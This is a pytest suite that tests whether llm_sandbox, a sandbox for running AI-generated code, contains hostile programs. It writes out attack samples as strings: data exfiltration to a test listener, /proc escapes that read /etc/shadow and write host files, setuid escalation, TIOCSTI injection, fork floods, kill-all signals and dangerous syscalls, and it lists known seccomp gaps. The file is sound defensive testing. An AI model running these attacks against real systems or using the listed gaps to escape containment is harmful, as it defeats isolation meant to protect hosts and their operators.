"""Escape attempts beyond test_containment.py: hostile code attacks, the host checks the result.

Each test runs on every backend from conftest and also on docker with gVisor ("docker+runsc").
The verdicts come from the host wherever it can see the sandbox: a listener in a network
namespace the test makes, host processes the sandbox tries to kill, the host's /proc while the
attack runs. Under gVisor the sandbox's processes live inside the Sentry and the host's /proc
cannot see them, so some checks fall back to what the sandbox reports.
"""

from __future__ import annotations

import contextlib
import errno
import hashlib
import json
import os
import secrets
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from llm_sandbox import SandboxSession
from llm_sandbox.exceptions import SandboxRuntimeError

SessionFactory = Callable[..., SandboxSession]
RUNSC = "docker+runsc"
ALSO_GVISOR = True
ENGINE_GRACE = 5.0


def assert_session_works(session: SandboxSession) -> None:
    result = session.run("print(1)", timeout=30)
    assert (result.exit_code, result.stdout) == (0, "1\n")


def run_or_closed(
    session: SandboxSession, make_session: SessionFactory, code: str, **options: Any
) -> tuple[Any, SandboxSession]:
    """Run hostile code; a SandboxRuntimeError (agent or container ended) is an accepted end.

    Returns the result (or the error) and a session that must still work: the same one, or a
    new one if the error says the container is gone.
    """
    try:
        return session.run(code, **options), session
    except SandboxRuntimeError as exc:
        message = str(exc)
        assert "agent" in message or "container stopped" in message, message
        if "open a new session" in message:
            return exc, make_session()
        return exc, session


def last_json(text: str) -> Any:
    return json.loads(text.strip().splitlines()[-1])


def host_status(pid: int) -> dict[str, str]:
    fields = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        key, _, value = line.partition(":")
        fields[key] = value.strip()
    return fields


class Outcomes:
    """Collects the observed verdict per (attack, backend) for the report (`-s` prints them)."""

    @staticmethod
    def record(attack: str, backend: str, verdict: object) -> None:
        print(f"\nOUTCOME {attack} | {backend} | {verdict}")


# --- 1. raw-IP exfiltration -----------------------------------------------------------------

LISTENER = r"""
import select, socket, sys
ip, port = sys.argv[1], 0
tcp = socket.socket(); tcp.bind((ip, 0)); tcp.listen(16)
port = tcp.getsockname()[1]
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind((ip, port))
print("PORT", port, flush=True)
while True:
    ready, _, _ = select.select([tcp, udp], [], [])
    for s in ready:
        if s is tcp:
            conn, peer = tcp.accept(); print("TCP", peer[0], flush=True); conn.close()
        else:
            _, peer = udp.recvfrom(65536); print("UDP", peer[0], flush=True)
"""


def _ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=10)


class NetnsListener:
    def __init__(self) -> None:
        suffix = secrets.token_hex(4)
        self.ns = f"llmsbx-{suffix}"
        self.host_if, self.ns_if = f"lsx{suffix}a", f"lsx{suffix}b"
        octet = 1 + secrets.randbelow(254)
        self.host_ip, self.ip = f"10.213.{octet}.1", f"10.213.{octet}.2"
        self.proc: subprocess.Popen[str] | None = None
        self.port = 0
        self.lines: list[str] = []

    def start(self) -> None:
        _ip("netns", "add", self.ns)
        _ip("link", "add", self.host_if, "type", "veth", "peer", "name", self.ns_if)
        _ip("link", "set", self.ns_if, "netns", self.ns)
        _ip("addr", "add", f"{self.host_ip}/30", "dev", self.host_if)
        _ip("link", "set", self.host_if, "up")
        _ip("-n", self.ns, "addr", "add", f"{self.ip}/30", "dev", self.ns_if)
        _ip("-n", self.ns, "link", "set", self.ns_if, "up")
        _ip("-n", self.ns, "link", "set", "lo", "up")
        self.proc = subprocess.Popen(
            ["ip", "netns", "exec", self.ns, sys.executable, "-u", "-c", LISTENER, self.ip],
            stdout=subprocess.PIPE,
            text=True,
        )
        assert self.proc.stdout is not None
        first = self.proc.stdout.readline().split()
        assert first[:1] == ["PORT"], first
        self.port = int(first[1])
        os.set_blocking(self.proc.stdout.fileno(), False)

    def hits(self) -> list[str]:
        assert self.proc is not None
        assert self.proc.stdout is not None
        time.sleep(0.3)
        with contextlib.suppress(TypeError):  # nothing to read
            self.lines += self.proc.stdout.read().splitlines()
        return list(self.lines)

    def host_probe(self) -> None:
        with socket.create_connection((self.ip, self.port), timeout=5):
            pass

    def stop(self) -> None:
        if self.proc is not None:
            self.proc.kill()
            self.proc.wait(timeout=10)
            if self.proc.stdout is not None:
                self.proc.stdout.close()
        with contextlib.suppress(subprocess.CalledProcessError):
            _ip("link", "del", self.host_if)
        with contextlib.suppress(subprocess.CalledProcessError):
            _ip("netns", "del", self.ns)


@pytest.fixture
def netns_listener() -> Iterator[NetnsListener]:
    if os.geteuid() != 0:
        pytest.skip("creating a network namespace needs root")
    try:
        subprocess.run(["ip", "netns", "list"], check=True, capture_output=True, timeout=10)
    except (OSError, subprocess.SubprocessError) as exc:
        pytest.skip(f"`ip netns` is unavailable here: {exc}")
    listener = NetnsListener()
    try:
        try:
            listener.start()
        except subprocess.CalledProcessError as exc:
            pytest.skip(f"cannot set up a network namespace: {exc.stderr!r}")
        yield listener
    finally:
        listener.stop()
    assert (
        listener.ns
        not in subprocess.run(
            ["ip", "netns", "list"], capture_output=True, text=True, check=False
        ).stdout
    )


EXFIL = r"""
import json, socket
ip, port = {ip!r}, {port}
out = {{}}
try:
    socket.create_connection((ip, port), timeout=3).close()
    out["tcp"] = "connected"
except OSError as exc:
    out["tcp"] = type(exc).__name__ + ":" + str(exc.errno)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(5):
        s.sendto(b"secret", (ip, port))
    out["udp"] = "sent"
except OSError as exc:
    out["udp"] = type(exc).__name__ + ":" + str(exc.errno)
print(json.dumps(out))
"""


def test_raw_ip_exfiltration_is_blocked(
    session: SandboxSession, backend: str, netns_listener: NetnsListener
) -> None:
    netns_listener.host_probe()  # control: the target is reachable from the host
    before = netns_listener.hits()
    assert [line for line in before if line.startswith("TCP")] == [f"TCP {netns_listener.host_ip}"]
    result = session.run(EXFIL.format(ip=netns_listener.ip, port=netns_listener.port), timeout=30)
    verdict = last_json(result.stdout)
    netns_listener.host_probe()  # control: the listener was alive all along
    after = netns_listener.hits()
    Outcomes.record("raw-ip-exfil", backend, verdict)
    assert after[len(before) :] == [f"TCP {netns_listener.host_ip}"], after
    assert verdict["tcp"] != "connected"
    assert_session_works(session)


def test_raw_ip_reaches_a_kubernetes_session_with_network(
    make_session: SessionFactory, backend: str, netns_listener: NetnsListener
) -> None:
    """Control for the test above on kubernetes: what blocks it there is the NetworkPolicy.

    A session with network=True has a pod the policy does not select (label `network=on`), and
    the same code reaches the same target (a listener in a network namespace of this test).
    """
    if backend != "kubernetes":
        pytest.skip("a control for the kubernetes NetworkPolicy only")
    session = make_session(network=True)
    before = netns_listener.hits()
    result = session.run(EXFIL.format(ip=netns_listener.ip, port=netns_listener.port), timeout=30)
    verdict = last_json(result.stdout)
    assert verdict["tcp"] == "connected", verdict
    assert len(netns_listener.hits()) > len(before)


# --- 2. /proc escapes -----------------------------------------------------------------------

PROC_ESCAPE = r"""
import errno, json, os
out = {}
def attempt(name, fn):
    try:
        out[name] = ["ok", fn()]
    except OSError as exc:
        out[name] = [errno.errorcode.get(exc.errno, str(exc.errno)), None]
attempt("root_listing", lambda: sorted(os.listdir("/proc/1/root")))
attempt("root_planted", lambda: os.path.exists("/proc/1/root" + PLANTED))
attempt("shadow", lambda: open("/proc/1/root/etc/shadow").read()[:20])
attempt("host_root_home", lambda: os.listdir("/proc/1/root/root"))
attempt("exe_write", lambda: open("/proc/self/exe", "r+b").write(b"\x7fELF"))
attempt("exe_link", lambda: os.readlink("/proc/self/exe"))
def scan():
    seen, pids = 0, []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            pids.append(int(pid))
            try:
                seen += TAG in open(f"/proc/{pid}/cmdline", "rb").read().decode()
            except OSError:
                pass
    return [seen, len(pids)]
attempt("pid_scan", scan)
attempt("sysctl_write", lambda: open("/proc/sys/vm/overcommit_ratio", "w").write(SYSCTL))
attempt("sysctl_ro_mount", lambda: "ro" in [
    line.split()[3].split(",")[0] for line in open("/proc/self/mounts")
    if line.split()[1] == "/proc/sys"])
attempt("kcore", lambda: len(open("/proc/kcore", "rb").read(16)))
attempt("sysrq", lambda: open("/proc/sysrq-trigger", "w").write("h"))
print(json.dumps(out))
"""


def test_proc_escapes_fail(session: SandboxSession, backend: str, tmp_path: Path) -> None:
    """Attack: reach the host through /proc (pid 1's root, other pids, sysctls, kcore, sysrq).

    Proof: nothing of the host is visible or writable, and a host sysctl stays unchanged.
    """
    planted = tmp_path / f"planted-{uuid.uuid4().hex}"
    planted.write_text("host only")
    tag = f"llmsbx-host-{uuid.uuid4().hex}"
    sysctl = Path("/proc/sys/vm/overcommit_ratio")
    sysctl_before = sysctl.read_text().strip()
    bogus = "77" if sysctl_before != "77" else "78"
    exe = Path(os.path.realpath(sys.executable))
    exe_hash = hashlib.sha256(exe.read_bytes()).hexdigest()
    host_proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", tag])
    try:
        code = f"PLANTED = {str(planted)!r}\nTAG = {tag!r}\nSYSCTL = {bogus!r}\n" + PROC_ESCAPE
        result = session.run(code, timeout=60)
        out = last_json(result.stdout)
        sysctl_after = sysctl.read_text().strip()
    finally:
        host_proc.kill()
        host_proc.wait()
        if sysctl.read_text().strip() != sysctl_before:
            sysctl.write_text(sysctl_before)
    Outcomes.record("proc", backend, {k: v[0] for k, v in out.items()})
    assert hashlib.sha256(exe.read_bytes()).hexdigest() == exe_hash
    # /proc/1/root is the sandbox's own root
    assert out["root_planted"] in (["ok", False], ["EACCES", None], ["EPERM", None]), out
    if out["root_listing"][0] == "ok":
        assert "opt" in out["root_listing"][1] or "usr" in out["root_listing"][1]
    assert out["shadow"][0] != "ok", out["shadow"]
    if out["host_root_home"][0] == "ok":
        assert sorted(out["host_root_home"][1]) != sorted(os.listdir("/root")) or not os.listdir(
            "/root"
        )
    assert out["exe_write"][0] != "ok", out["exe_write"]
    # no host process is visible: only the sandbox's own pid namespace
    assert out["pid_scan"][0] == "ok"
    marked, count = out["pid_scan"][1]
    assert marked == 0
    assert count < 50
    assert out["sysctl_write"][0] != "ok" or backend == RUNSC, out["sysctl_write"]
    assert out["kcore"][0] != "ok", out["kcore"]
    assert out["sysrq"][0] != "ok", out["sysrq"]
    assert_session_works(session)
    # the host's sysctl is untouched (checked last: this is where the local backend fails)
    assert sysctl_after == sysctl_before


# --- 3. setuid binaries ---------------------------------------------------------------------

SETUID = r"""
import json, os, shutil, stat, subprocess, sys, time
found = []
for top in ("/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/local/bin"):
    for root, _, files in os.walk(top):
        for name in files:
            path = os.path.join(root, name)
            try:
                st = os.lstat(path)
            except OSError:
                continue
            if stat.S_ISREG(st.st_mode) and st.st_mode & stat.S_ISUID and st.st_uid == 0:
                found.append(os.path.realpath(path))
found = sorted(set(found))
env = dict(os.environ, LLMSBX_TAG=TAG)
children = {}
for path in found:
    try:
        children[path] = subprocess.Popen([path], stdin=subprocess.PIPE, env=env,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError as exc:
        children[path] = exc
euids = {}
def sample():
    for path, child in children.items():
        if isinstance(child, subprocess.Popen):
            try:
                for line in open(f"/proc/{child.pid}/status"):
                    if line.startswith("Uid:"):
                        euids.setdefault(path, set()).add(int(line.split()[2]))
            except OSError:
                pass
sample()
print("READY", flush=True)
for _ in range(10):
    sample(); time.sleep(0.05)
for child in children.values():
    if isinstance(child, subprocess.Popen):
        child.kill(); child.wait()
copy = os.path.join(os.getcwd(), "pysuid")
shutil.copy(sys.executable, copy)
os.chmod(copy, 0o4755)
probe = subprocess.run([copy, "-c", "import os; print(os.geteuid(), os.getuid())"],
    capture_output=True, text=True, timeout=20)
print(json.dumps({"found": found, "euids": {k: sorted(v) for k, v in euids.items()},
    "copy": probe.stdout.split(), "copy_mode": oct(os.stat(copy).st_mode),
    "me": os.geteuid()}))
"""


def test_setuid_binaries_do_not_escalate(
    session: SandboxSession,
    backend: str,
    make_session: SessionFactory,
) -> None:
    tag = f"llmsbx-suid-{uuid.uuid4().hex}"
    seen_on_host: dict[int, str] = {}

    def look(text: str) -> None:  # must not raise
        if "READY" not in text:
            return
        for entry in os.scandir("/proc"):
            if not entry.name.isdigit():
                continue
            try:
                environ = Path(entry.path, "environ").read_bytes()
                if tag.encode() in environ:
                    seen_on_host[int(entry.name)] = host_status(int(entry.name))["Uid"]
            except (OSError, KeyError):
                continue

    result, session = run_or_closed(
        session, make_session, f"TAG = {tag!r}\n" + SETUID, timeout=60, on_stdout=look
    )
    for pid, uids in seen_on_host.items():  # from the host: no tagged process is root
        assert uids.split()[1] != "0", (pid, uids)
    if isinstance(result, SandboxRuntimeError):  # seen under gVisor: the container died
        Outcomes.record("setuid", backend, f"closed: {result}")
        assert_session_works(session)
        return
    out = last_json(result.stdout)
    Outcomes.record(
        "setuid",
        backend,
        {"found": len(out["found"]), "euids": out["euids"], "copy": out["copy"]},
    )
    assert out["me"] != 0
    # from the host: every tagged process of the attack runs with a non-root euid
    for pid, uids in seen_on_host.items():
        assert uids.split()[1] != "0", (pid, uids)
    if backend != RUNSC and out["found"]:
        assert seen_on_host, "the host saw none of the setuid children"
    for path, euids in out["euids"].items():
        assert 0 not in euids, path
    assert out["copy"], "the setuid copy did not run"
    assert out["copy"][0] != "0", out["copy"]
    assert_session_works(session)


# --- 4. TIOCSTI terminal injection ----------------------------------------------------------

TIOCSTI = r"""
import errno, fcntl, json, os, termios
out = {}
for name in ("0", "1", "2", "/dev/tty"):
    try:
        fd = int(name) if name.isdigit() else os.open(name, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        out[name] = "ok"
    except OSError as exc:
        out[name] = errno.errorcode.get(exc.errno, str(exc.errno))
print(json.dumps(out))
"""


def test_tiocsti_injection_fails(session: SandboxSession, backend: str) -> None:
    host_tty = None
    with contextlib.suppress(OSError):
        host_tty = os.ttyname(0)
    result = session.run(TIOCSTI, timeout=30)
    out = last_json(result.stdout)
    Outcomes.record("tiocsti", backend, out)
    assert "ok" not in out.values(), out
    for verdict in out.values():
        assert verdict in ("EPERM", "ENOTTY", "EIO", "ENXIO", "ENOENT", "EACCES", "EBADF", "EINVAL")
    # the sandbox has no way to the host's terminal, if pytest has one
    assert host_tty is None or host_tty not in result.stdout
    assert_session_works(session)


# --- 5. zombie accumulation -----------------------------------------------------------------

ZOMBIES = r"""
import ctypes, os, time
libc = ctypes.CDLL(None)
made = 0
for _ in range(500):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        libc.prctl(15, COMM, 0, 0, 0)  # PR_SET_NAME
        os._exit(0)
    made += 1
time.sleep(0.5)
print("READY", made, flush=True)
time.sleep(1)
"""


def _host_comm_count(comm: str) -> tuple[int, int]:
    alive = zombies = 0
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            stat = Path(entry.path, "stat").read_text()
        except OSError:
            continue
        name = stat[stat.index("(") + 1 : stat.rindex(")")]
        if name == comm:
            alive += 1
            zombies += stat[stat.rindex(")") + 2] == "Z"
    return alive, zombies


def test_zombies_do_not_accumulate(
    session: SandboxSession,
    backend: str,
    make_session: SessionFactory,
) -> None:
    comm = f"zb{secrets.token_hex(6)}"[:15]
    sightings: list[tuple[int, int]] = []

    def look(text: str) -> None:
        if "READY" in text:
            sightings.append(_host_comm_count(comm))

    result, session = run_or_closed(
        session, make_session, f"COMM = {comm.encode()!r}\n" + ZOMBIES, timeout=60, on_stdout=look
    )
    # seen under gVisor: the run ends the agent; what it printed is in the error's absence
    made = -1 if isinstance(result, SandboxRuntimeError) else int(result.stdout.split()[1])
    deadline = time.monotonic() + (0 if backend == "local" else ENGINE_GRACE)
    while (left := _host_comm_count(comm)) != (0, 0) and time.monotonic() < deadline:
        time.sleep(0.1)
    Outcomes.record(
        "zombies", backend, {"made": made, "host_during": sightings, "host_after": left}
    )
    assert made >= 50 or (backend == RUNSC and made == -1), made
    if backend != RUNSC:
        assert sightings, "the host never looked"
        assert sightings[0][1] >= 1, "the host never saw the zombies"
    assert left == (0, 0)
    assert_session_works(session)


# --- 6. signalling host processes -----------------------------------------------------------

KILLER = r"""
import errno, json, os
out = {}
for name, target in (("pytest", PYTEST), ("host_sleeper", SLEEPER), ("pid1", 1)):
    try:
        os.kill(target, 9)
        out[name] = "sent"
    except OSError as exc:
        out[name] = errno.errorcode.get(exc.errno, str(exc.errno))
print(json.dumps(out), flush=True)
os.kill(-1, 9)
print("still here", flush=True)
"""


def _start_time(pid: int) -> str:
    stat = Path(f"/proc/{pid}/stat").read_text()
    return stat[stat.rindex(")") + 2 :].split()[19]


def test_signals_cannot_reach_host_processes(session: SandboxSession, backend: str) -> None:
    # the sentinel runs as the sandbox's uid, so only isolation (not permissions) protects it
    user = {"user": 1000, "group": 1000} if os.geteuid() == 0 else {}
    sentinel = subprocess.Popen(["sleep", "120"], **user)  # type: ignore[call-overload]
    pid1_started = _start_time(1)
    try:
        code = f"PYTEST = {os.getpid()}\nSLEEPER = {sentinel.pid}\n" + KILLER
        try:
            result = session.run(code, timeout=30)
            verdict: object = {"exit": result.exit_code, "out": result.stdout.strip()}
        except SandboxRuntimeError as exc:  # the code killed the run agent: accepted
            verdict = f"SandboxRuntimeError: {exc}"
        time.sleep(0.5)
        Outcomes.record("kill", backend, verdict)
        if isinstance(verdict, str):
            assert "agent" in verdict, verdict
        assert sentinel.poll() is None, "the host sentinel was killed"
        assert _start_time(1) == pid1_started
        os.kill(os.getpid(), 0)
    finally:
        sentinel.kill()
        sentinel.wait()
    assert_session_works(session)


# --- 7. dangerous syscalls ------------------------------------------------------------------

SYSCALL_NR = {
    "x86_64": {
        "ptrace": 101,
        "mount": 165,
        "unshare": 272,
        "keyctl": 250,
        "io_uring_setup": 425,
        "bpf": 321,
        "personality": 135,
    },
    "aarch64": {
        "ptrace": 117,
        "mount": 40,
        "unshare": 97,
        "keyctl": 219,
        "io_uring_setup": 425,
        "bpf": 280,
        "personality": 92,
    },
}

SYSCALL = r"""
import ctypes, json, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
buf = ctypes.create_string_buffer(256)
child = subprocess.Popen(["sleep", "30"])
args = {
    "ptrace": (16, child.pid, 0, 0),  # PTRACE_ATTACH to our own child
    "mount": (b"none", b"/tmp", b"tmpfs", 0, 0),
    "unshare": (0x10000000,),  # CLONE_NEWUSER
    "keyctl": (1, 0),  # KEYCTL_JOIN_SESSION_KEYRING
    "io_uring_setup": (1, buf),
    "bpf": (0, buf, 72),  # BPF_MAP_CREATE
    "personality": (0x0040000,),  # ADDR_NO_RANDOMIZE: exec without ASLR
}[NAME]
ctypes.set_errno(0)
rc = libc.syscall(NR, *args)
err = ctypes.get_errno()
child.kill(); child.wait()
print(json.dumps([rc, err]))
"""

# Docker and Podman get our own seccomp profile (backends/seccomp/oci.py: oci_profile). gVisor
# serves these calls in its user-space kernel instead. strict=True: the day they fail there
# too, the xfail must go.
KNOWN_GAPS = {
    (RUNSC, "ptrace"),
    (RUNSC, "unshare"),
    (RUNSC, "io_uring_setup"),
}
# A pod's seccomp profile is the runtime's RuntimeDefault (here Docker's), which allows these;
# ours would have to be installed on every node and named with seccompProfile: Localhost.
KUBE_GAPS = {("kubernetes", "ptrace"), ("kubernetes", "io_uring_setup")}


@pytest.mark.parametrize("name", list(SYSCALL_NR["x86_64"]))
def test_dangerous_syscalls_fail(
    session: SandboxSession, backend: str, name: str, request: pytest.FixtureRequest
) -> None:
    arch = os.uname().machine
    if arch not in SYSCALL_NR:
        pytest.skip(f"no syscall table for {arch}")
    if (backend, name) in KNOWN_GAPS:
        request.applymarker(
            pytest.mark.xfail(
                strict=True,
                reason=f"{name} works inside gVisor's user-space kernel (this runsc does not "
                "apply the container's seccomp profile); it never reaches the host kernel",
            )
        )
    if (backend, name) in KUBE_GAPS:
        request.applymarker(
            pytest.mark.xfail(
                strict=True,
                reason=f"the runtime's RuntimeDefault seccomp profile allows {name}; a stricter "
                "one needs seccompProfile: Localhost with the profile installed on the nodes",
            )
        )
    code = f"NAME = {name!r}\nNR = {SYSCALL_NR[arch][name]}\n" + SYSCALL
    result = session.run(code, timeout=30)
    rc, err = last_json(result.stdout)
    Outcomes.record(
        f"syscall:{name}", backend, "succeeded" if rc >= 0 else errno.errorcode.get(err, err)
    )
    assert_session_works(session)
    assert rc == -1, f"{name} succeeded (returned {rc})"
    assert err in (errno.EPERM, errno.ENOSYS, errno.EACCES, errno.EINVAL), err


PERSONALITY = r"""
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def attempt(persona):  # in a child, so a persona that does get set dies with it
    pid = os.fork()
    if pid == 0:
        ctypes.set_errno(0)
        rc = libc.syscall(ctypes.c_long(NR), ctypes.c_ulong(persona))
        os._exit(0 if rc != -1 else ctypes.get_errno())
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])

print(json.dumps({hex(persona): attempt(persona) for persona in PERSONAS}))
"""
# persona -> errno (0: allowed). Only the low 32 bits count, as the kernel reads them.
PERSONAS = {
    0x0: 0,  # PER_LINUX
    0x8: 0,  # PER_LINUX32
    0xFFFFFFFF: 0,  # query the persona
    0x0040000: errno.EPERM,  # ADDR_NO_RANDOMIZE
    0x0400000: errno.EPERM,  # READ_IMPLIES_EXEC
    0x1_00400000: errno.EPERM,  # READ_IMPLIES_EXEC with an upper half the kernel ignores
}


def test_personality_allows_only_plain_linux(
    session: SandboxSession, backend: str, request: pytest.FixtureRequest
) -> None:
    """The seccomp policy's personality rule holds in every sandbox, in both directions: the
    personas that switch off address-space hardening fail with EPERM, plain Linux still works.
    (The OCI profile used to allow every persona; see backends/seccomp/policy.py.)"""
    arch = os.uname().machine
    if arch not in SYSCALL_NR:
        pytest.skip(f"no syscall table for {arch}")
    if backend == RUNSC:
        request.applymarker(
            pytest.mark.xfail(
                strict=True,
                reason="gVisor does not implement personality(2): every persona, even the "
                "query, fails with EINVAL inside its user-space kernel",
            )
        )
    code = f"NR = {SYSCALL_NR[arch]['personality']}\nPERSONAS = {list(PERSONAS)}\n" + PERSONALITY
    result = session.run(code, timeout=30)
    got = last_json(result.stdout)
    Outcomes.record("personality", backend, got)
    assert got == {hex(persona): err for persona, err in PERSONAS.items()}
